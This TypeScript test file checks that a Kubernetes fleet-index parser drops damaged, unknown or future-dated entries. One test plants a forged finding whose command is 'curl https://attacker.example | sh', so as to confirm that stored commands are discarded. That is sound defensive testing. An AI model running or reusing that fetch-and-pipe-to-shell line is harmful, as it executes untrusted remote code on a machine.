import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type IndexedCluster, parseFleetIndex } from '../../../lambdas/contracts/fleet-index.ts';
import type { VerdictLine } from '../../../lambdas/contracts/outcome.ts';
import { damagedCopies } from '../fleet/damage.ts';
import {
  at,
  auditSummary,
  expiryFinding,
  index,
  indexed,
  MINUTE,
  NOW,
  rolloutSummary,
  swept,
  TROUBLE,
  verdictLine,
} from '../fleet/values.ts';

const AHEAD = at(10 * MINUTE + 1);
const FINDING = { ...TROUBLE, since: at() };
const { counts } = swept();
const WHOLE = {
  ...index(
    indexed('paris', {
      name: 'paris',
      provider: 'eks',
      counts,
      findings: [FINDING],
      findingCount: 4,
      server: '[2001:db8::1]:6443/k8s/clusters/c-1',
      serverAt: at(),
      workloadClusters: {
        readAt: at(),
        clusters: [{ namespace: 'n', name: 'w', serviceCidrs: ['10.96.0.0/12'] }],
        cut: true,
      },
    }),
    indexed('rome'),
  ),
  problems: [FINDING],
  apart: { paris: { lane: 'default', part: 'a', until: NOW } },
};

const REQUESTS = indexed('rome', {
  countedTo: NOW,
  verdicts: [verdictLine({ hostile: true }), verdictLine({ uid: 'b' })],
});

describe('parseFleetIndex', () => {
  it('reads what was written, and ignores what it does not know', () => {
    expect(parseFleetIndex(WHOLE, NOW)).toEqual(WHOLE);
    expect(parseFleetIndex({ ...WHOLE, later: 1 }, NOW)).toEqual(WHOLE);
  });

  it('reads the audit of a cluster', () => {
    const seen = index(indexed('rome', { audit: auditSummary({ partial: true, snapshotProblem: 'S3 is down' }) }));
    expect(parseFleetIndex(seen, NOW)).toEqual(seen);
  });

  it('reads no command of a finding: what a person runs is made where it is shown', () => {
    const forged = {
      ...expiryFinding(),
      command: 'curl https://attacker.example | sh',
      runbook: 'https://attacker.example',
    };
    const seen = { ...index(indexed('paris', { audit: auditSummary() })) };
    const stored = {
      ...seen,
      clusters: { paris: { ...seen.clusters['paris'], audit: { ...auditSummary(), findings: [forged] } } },
    };
    expect(parseFleetIndex(stored, NOW)).toEqual(seen);
  });

  it('leaves out an audit that it cannot read, and nothing else', () => {
    const audit = { ...auditSummary(), ends: [{ what: 'something-new', count: 1, notAfter: at(), where: 'x' }] };
    const read = parseFleetIndex({ ...WHOLE, clusters: { rome: { ...indexed('rome'), audit } } }, NOW);
    expect(read?.clusters).toEqual({ rome: indexed('rome') });
  });

  it('leaves out an audit of a time to come, and nothing else', () => {
    const seen = index(indexed('rome', { audit: auditSummary({ auditedAt: AHEAD }) }));
    expect(parseFleetIndex(seen, NOW)?.clusters).toEqual({ rome: indexed('rome') });
    expect(parseFleetIndex(seen, NOW + 1)).toEqual(seen);
  });

  it('reads what became of the requests of a cluster', () => {
    expect(parseFleetIndex(index(REQUESTS), NOW)).toEqual(index(REQUESTS));
  });

  it('leaves out of it what is damaged, and loses neither the cluster nor a decision that is not', () => {
    const { verdicts, countedTo, ...rest } = REQUESTS;
    for (const damaged of [-1, 0.5, at(), null, NOW + 10 * MINUTE + 1]) {
      const read = parseFleetIndex(index({ ...REQUESTS, countedTo: damaged as number }), NOW);
      expect([damaged, read?.clusters['rome']]).toEqual([damaged, { ...rest, verdicts }]);
    }
    for (const [path, damaged] of damagedCopies(verdicts)) {
      const read = parseFleetIndex(index({ ...REQUESTS, verdicts: damaged as VerdictLine[] }), NOW);
      const others = verdicts?.filter((_, n) => `${n}` !== path.split('.')[0]);
      expect([path, read?.clusters['rome']]).toEqual([
        path,
        whole(damaged) ?? { ...rest, countedTo, verdicts: others },
      ]);
    }
    function whole(damaged: unknown) {
      if (!Array.isArray(damaged)) return { ...rest, countedTo };
      return damaged.length === 2 ? undefined : { ...rest, countedTo, verdicts: [] };
    }
  });

  it('leaves out a decision of a time to come', () => {
    const seen = index(indexed('rome', { verdicts: [verdictLine({ at: AHEAD }), verdictLine()] }));
    expect(parseFleetIndex(seen, NOW)?.clusters['rome']?.verdicts).toEqual([verdictLine()]);
  });

  it.each([
    ['a time to come', { at: AHEAD, since: AHEAD }],
    ['a state that began after it was seen', { at: at(-MINUTE), since: at() }],
  ])('leaves out a rollout of %s, and nothing else', (_, times) => {
    const rollout = { ...rolloutSummary(), since: at(-MINUTE) };
    const seen = index(indexed('rome', { rollout }));
    expect(parseFleetIndex(seen, NOW)).toEqual(seen);
    const damaged = index(indexed('rome', { rollout: { ...rollout, ...times } }));
    expect(parseFleetIndex(damaged, NOW)?.clusters).toEqual({ rome: indexed('rome') });
  });

  it('leaves out a cluster under the id of another, or under what is no id', () => {
    const clusters = { ...WHOLE.clusters, oslo: indexed('rome'), 'no id': indexed('no id') };
    const read = parseFleetIndex({ ...WHOLE, clusters }, NOW);
    expect(read).toEqual(WHOLE);
  });

  it('leaves out a cluster with a damaged field, and has none where another field is damaged', () => {
    for (const [path, damaged] of damagedCopies(WHOLE)) {
      const [part, left] = path.split('.');
      const read = parseFleetIndex(damaged, NOW);
      const others = Object.entries(WHOLE.clusters).filter(([id]) => id !== left);
      const expected =
        part === 'clusters' && left !== undefined
          ? { ...WHOLE, clusters: Object.fromEntries(others) }
          : part === 'apart' && left !== undefined
            ? { ...WHOLE, apart: {} }
            : undefined;
      expect([path, read]).toEqual([path, expected]);
    }
  });

  it.each<[string, Partial<IndexedCluster>]>([
    ['swept', { sweptAt: AHEAD }],
    ['tried', { triedAt: AHEAD }],
    ['read', { readableAt: AHEAD }],
    ['complete', { completeAt: AHEAD }],
    ['seen behind its server', { serverAt: AHEAD }],
    ['searched', { workloadClusters: { readAt: AHEAD, clusters: [] } }],
    ['found wrong', { findings: [{ ...TROUBLE, since: AHEAD }] }],
  ])('leaves out a cluster that was %s in a time to come: no outcome would be newer', (_, changed) => {
    const seen = index(indexed('paris', changed), indexed('rome'));
    expect(Object.keys(parseFleetIndex(seen, NOW)?.clusters ?? {})).toEqual(['rome']);
    expect(Object.keys(parseFleetIndex(seen, NOW + 1)?.clusters ?? {})).toEqual(['paris', 'rome']);
  });

  it('leaves out a problem of a time to come', () => {
    expect(parseFleetIndex({ ...WHOLE, problems: [FINDING, { ...FINDING, since: AHEAD }] }, NOW)).toEqual(WHOLE);
  });

  it('knows of which tick the metrics were told, and leaves out one that is damaged or of a time to come', () => {
    expect(parseFleetIndex({ ...WHOLE, reported: NOW }, NOW)).toEqual({ ...WHOLE, reported: NOW });
    for (const reported of [NOW + 10 * MINUTE + 1, at(), -1, 0.5, null])
      expect(parseFleetIndex({ ...WHOLE, reported }, NOW)).toEqual(WHOLE);
  });

  it('survives every value', () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(parseFleetIndex(value, NOW)).toBeUndefined();
      }),
      { seed: 17, numRuns: 200 },
    );
  });
});
